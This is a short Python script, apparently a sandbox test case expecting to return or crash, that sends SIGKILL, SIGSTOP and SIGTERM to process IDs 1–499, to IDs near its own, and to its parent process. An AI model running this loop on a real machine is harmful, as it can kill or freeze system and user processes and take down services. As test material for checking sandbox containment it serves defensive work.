# accept: returned | crash
import os
import signal

own = os.getpid()
near = list(range(1, 500)) + list(range(max(500, own - 2000), own + 200)) + [os.getppid()]
for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
    for pid in near:
        if pid != own:
            try:
                os.kill(pid, number)
            except OSError:
                pass
print('done')
